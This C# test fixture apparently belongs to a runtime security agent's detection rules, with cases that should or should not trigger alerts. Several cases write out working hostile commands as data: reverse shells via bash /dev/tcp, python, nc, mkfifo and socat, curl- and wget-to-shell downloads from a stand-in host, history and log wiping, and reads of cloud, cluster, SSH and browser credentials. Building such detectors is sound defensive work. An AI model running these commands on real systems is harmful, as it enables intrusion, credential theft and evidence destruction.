// SPDX-License-Identifier: Apache-2.0
using NodeAgent.Events.Identity;
using NodeAgent.Events.Net;
using NodeAgent.Events.Wire;
using NodeAgent.Rules.Tests.Fixtures;
using static NodeAgent.Rules.Tests.Library.RuleExample;

namespace NodeAgent.Rules.Tests.Library;

/// <summary>Examples of the classes from reverse shells to miners.</summary>
internal static class AttackExamples
{
    private const string Foreign = "93.184.216.34";
    private const uint ForWriting = 0x241;

    public static IReadOnlyList<RuleExample> All { get; } =
    [
        Fires("NA-0101", "shell that reads from a socket", b => OnSocket(b).Exec("/bin/sh", ["sh", "-i"])),
        Quiet("NA-0101", "shell with a command, as node starts it", b => OnSocket(b).Exec("/bin/sh", ["sh", "-c", "id"])),
        Quiet("NA-0101", "shell on a terminal", b => b.Exec("/bin/sh", ["sh", "-i"])),
        Quiet("NA-0101", "shell that was learned", b => { OnSocket(b).Learned().Executes("/bin/sh").ArgumentLists.Add("/bin/sh sh"); b.Exec("/bin/sh", ["sh"]); }),
        Fires("NA-0102", "bash onto /dev/tcp", b => b.Exec("/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/443 0>&1"], comm: "bash")),
        Fires("NA-0102", "python one-liner", b => b.Exec("/usr/bin/python3", ["python3", "-c", "import socket,os;s=socket.socket();s.connect(('203.0.113.5',1));os.dup2(s.fileno(),0);os.execl('/bin/sh','sh')"], comm: "python3")),
        Fires("NA-0102", "nc that hands a shell over", b => b.Exec("/bin/nc", ["nc", "203.0.113.5", "4444", "-e", "/bin/sh"], comm: "nc")),
        Fires("NA-0102", "named pipe", b => b.Exec("/bin/sh", ["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 1 >/tmp/f"])),
        Fires("NA-0102", "socat", b => b.Exec("/usr/bin/socat", ["socat", "TCP:203.0.113.5:1", "EXEC:/bin/sh,pty,stderr"], comm: "socat")),
        Quiet("NA-0102", "waiting for a port", b => b.Exec("/bin/bash", ["bash", "-c", "until echo > /dev/tcp/db/5432; do sleep 1; done"], comm: "bash")),
        Quiet("NA-0102", "nc that looks whether a port answers", b => b.Exec("/bin/nc", ["nc", "-z", "db", "5432"], comm: "nc")),
        Fires("NA-0103", "connection of a shell", b => b.Tcp(Foreign, 443, comm: "bash")),
        Quiet("NA-0103", "connection of a shell to a neighbour", b => b.Tcp("10.1.2.3", 5432, comm: "bash")),
        Quiet("NA-0103", "connection that was learned", b => { b.Learned().Talks(Foreign, 443, TransportProtocol.Tcp); b.Tcp(Foreign, 443, comm: "bash"); }),
        Fires("NA-0201", "shell under nginx", b => b.Exec("/bin/sh", ["sh", "-c", "id"])),
        Quiet("NA-0201", "shell that came in from outside", b => { b.Shell.Parent = b.Runtime; b.Exec("/bin/sh"); }),
        Quiet("NA-0201", "another program under nginx", b => b.Exec("/usr/bin/date", comm: "date")),
        Fires("NA-0202", "shell under PostgreSQL", b => { b.Init.Comm = "postgres"; b.Exec("/bin/dash", ["sh", "-c", "id"]); }),
        Quiet("NA-0202", "archive command that was learned", b => { b.Init.Comm = "postgres"; b.Learned().Executes("/bin/dash"); b.Exec("/bin/dash", ["sh", "-c", "cp %p"]); }),
        Fires("NA-0203", "shell under java", b => { b.Init.Comm = "java"; Learned(b).Exec("/bin/sh", ["sh", "-c", "id"]); }),
        Quiet("NA-0203", "shell under java while nothing is learned", b => { b.Init.Comm = "java"; b.Exec("/bin/sh", ["sh", "-c", "id"]); }),
        Fires("NA-0301", "apt-get", b => Learned(b).Exec("/usr/bin/apt-get", ["apt-get", "install", "nmap"], comm: "apt-get")),
        Quiet("NA-0301", "apt-get that was learned", b => { b.Learned().Executes("/usr/bin/apt-get"); b.Exec("/usr/bin/apt-get", comm: "apt-get"); }),
        Quiet("NA-0301", "apt-get while nothing is learned", b => b.Exec("/usr/bin/apt-get", comm: "apt-get")),
        Fires("NA-0302", "gcc", b => Learned(b).Exec("/usr/bin/x86_64-linux-gnu-gcc-14", ["gcc", "x.c"], comm: "gcc")),
        Quiet("NA-0302", "gcc that was learned", b => { b.Learned().Executes("/usr/bin/gcc"); b.Exec("/usr/bin/gcc", comm: "gcc"); }),
        Fires("NA-0401", "curl into sh", b => b.Exec("/bin/sh", ["sh", "-c", "curl -fsSL http://203.0.113.5/x.sh | sudo bash -s -- -q"])),
        Fires("NA-0401", "what wget prints", b => b.Exec("/bin/sh", ["sh", "-c", "sh -c \"$(wget -qO- http://203.0.113.5/x)\""])),
        Fires("NA-0401", "what wget prints, decoded", b => b.Exec("/bin/sh", ["sh", "-c", "wget -qO- x | base64 -d | sh"])),
        Quiet("NA-0401", "curl into a file", b => b.Exec("/bin/sh", ["sh", "-c", "curl -o /tmp/shell.txt http://203.0.113.5/ | tee log"])),
        Quiet("NA-0401", "curl into jq", b => b.Exec("/bin/sh", ["sh", "-c", "curl -s http://api/ | jq .shape"])),
        Fires("NA-0402", "file of wget executed", b => { b.Open("/tmp/x", ForWriting, comm: "wget"); b.Exec("/tmp/x", comm: "x"); }),
        Quiet("NA-0402", "file of wget read", b => { b.Open("/tmp/x", 0, comm: "wget"); b.Exec("/tmp/x", comm: "x"); b.Exec("/tmp/x", comm: "x"); }),
        Quiet("NA-0402", "file of wget executed a day later", b => { b.Open("/tmp/x", ForWriting, comm: "wget"); b.NowNs += 86_400_000_000_000; b.Exec("/tmp/x", comm: "x"); }),
        Fires("NA-0403", "made executable, then run", b => { b.Change(FileOperation.Chmod, "/tmp/x", mode: 0x81ed); b.Exec("/tmp/x", comm: "x"); }),
        Quiet("NA-0403", "made readable, then run", b => { b.Change(FileOperation.Chmod, "/tmp/x", mode: 0x81a4); b.Exec("/tmp/x", comm: "x"); }),
        Quiet("NA-0403", "linked, then run", b => { b.Comm = "ld"; b.Change(FileOperation.Chmod, "/tmp/x", mode: 0x81ed); b.Exec("/tmp/x", comm: "x"); }),
        Fires("NA-0501", "history emptied", b => b.Open("/root/.bash_history", ForWriting, comm: "bash")),
        Fires("NA-0501", "history deleted", b => b.Change(FileOperation.Unlink, "/root/.bash_history")),
        Fires("NA-0501", "history cut", b => b.Change(FileOperation.Truncate, "/root/.zsh_history")),
        Fires("NA-0501", "history to nowhere", b => b.Link(FileOperation.Symlink, "/dev/null", "/root/.bash_history")),
        Quiet("NA-0501", "history appended to", b => b.Open("/root/.bash_history", 0x442, comm: "bash")),
        Quiet("NA-0501", "another file deleted", b => b.Change(FileOperation.Unlink, "/root/.bashrc")),
        Fires("NA-0502", "log of logins emptied", b => b.Open("/var/log/auth.log", ForWriting, comm: "sh")),
        Fires("NA-0502", "log of logins deleted", b => b.Change(FileOperation.Unlink, "/var/log/wtmp")),
        Quiet("NA-0502", "log rotated", b => { b.Comm = "logrotate"; b.Change(FileOperation.Truncate, "/var/log/syslog"); }),
        Quiet("NA-0502", "log of an application deleted", b => b.Change(FileOperation.Unlink, "/var/log/app.log")),
        Fires("NA-0503", "journal emptied", b => b.Exec("/usr/bin/journalctl", ["journalctl", "--vacuum-time=1s"], comm: "journalctl")),
        Quiet("NA-0503", "journal read", b => b.Exec("/usr/bin/journalctl", ["journalctl", "-u", "x"], comm: "journalctl")),
        Fires("NA-0601", "keys of a cloud", b => Learned(b).Open("/root/.aws/credentials")),
        Quiet("NA-0601", "keys that were learned", b => { b.Learned().Opens("/root/.aws/credentials"); b.Open("/root/.aws/credentials"); }),
        Quiet("NA-0601", "keys that are not there", b => Learned(b).Open("/root/.aws/credentials", error: 2)),
        Fires("NA-0602", "keys of a cluster printed", b => b.Open("/root/.kube/config", comm: "cat")),
        Quiet("NA-0602", "keys of a cluster read by their client", b => b.Open("/root/.kube/config", comm: "kubectl")),
        Fires("NA-0603", "private key printed", b => b.Open("/root/.ssh/id_ed25519", comm: "cat")),
        Quiet("NA-0603", "private key used", b => b.Open("/root/.ssh/id_ed25519", comm: "ssh")),
        Quiet("NA-0603", "public key printed", b => b.Open("/root/.ssh/id_ed25519.pub", comm: "cat")),
        Fires("NA-0604", "passwords of a browser", b => b.Open("/home/u/.config/chromium/Default/Login Data", comm: "python3")),
        Quiet("NA-0604", "browser", b => { b.Shell.ExePath = "/usr/lib/chromium/chromium"; b.Open("/home/u/.config/chromium/Default/Login Data", comm: "ThreadPoolForeg"); }),
        Fires("NA-0701", "token printed", b => b.Open("/run/secrets/kubernetes.io/serviceaccount/..2026_11_22/token", comm: "cat")),
        Quiet("NA-0701", "token used", b => b.Open("/run/secrets/kubernetes.io/serviceaccount/..2026_11_22/token", comm: "operator")),
        Fires("NA-0702", "token of another pod", b => b.Open("/host/var/lib/kubelet/pods/1-2/volumes/kubernetes.io~projected/kube-api-access-x/..2026/token", comm: "tool")),
        Quiet("NA-0702", "own token", b => b.Open("/run/secrets/kubernetes.io/serviceaccount/token", comm: "tool")),
        Fires("NA-0801", "metadata service", b => Learned(b).Tcp("169.254.169.254", 80, comm: "app")),
        Quiet("NA-0801", "metadata service while nothing is learned", b => b.Tcp("169.254.169.254", 80, comm: "app")),
        Fires("NA-0802", "metadata service by curl", b => b.Tcp("169.254.169.254", 80, comm: "curl")),
        Quiet("NA-0802", "metadata service by a library", b => b.Tcp("169.254.169.254", 80, comm: "app")),
        Fires("NA-0901", "address of a pool", b => b.Exec("/tmp/x", ["x", "-o", "stratum+tcp://203.0.113.5:4444"], comm: "x")),
        Fires("NA-0901", "name of a miner", b => b.Exec("/usr/bin/xmrig", comm: "xmrig")),
        Quiet("NA-0901", "name of something else", b => b.Exec("/usr/bin/miner-stats", comm: "miner-stats")),
        Fires("NA-0902", "port of pools", b => Learned(b).Tcp(Foreign, 14444, comm: "x")),
        Quiet("NA-0902", "another port", b => Learned(b).Tcp(Foreign, 443, comm: "x")),
        Fires("NA-0903", "name of a pool", b => b.Dns(DnsMessages.Query("gulf.moneroocean.stream"))),
        Quiet("NA-0903", "name that holds one", b => b.Dns(DnsMessages.Query("moneroocean.stream.example.com"))),
        Fires("NA-0904", "registers", b => b.Open("/dev/cpu/0/msr", 2, comm: "x")),
        Quiet("NA-0904", "another device", b => b.Open("/dev/cpu/microcode", 2, comm: "x")),
    ];

    private static Bench OnSocket(Bench bench)
    {
        bench.Shell.StdinType = StdinType.Socket;
        return bench;
    }
}
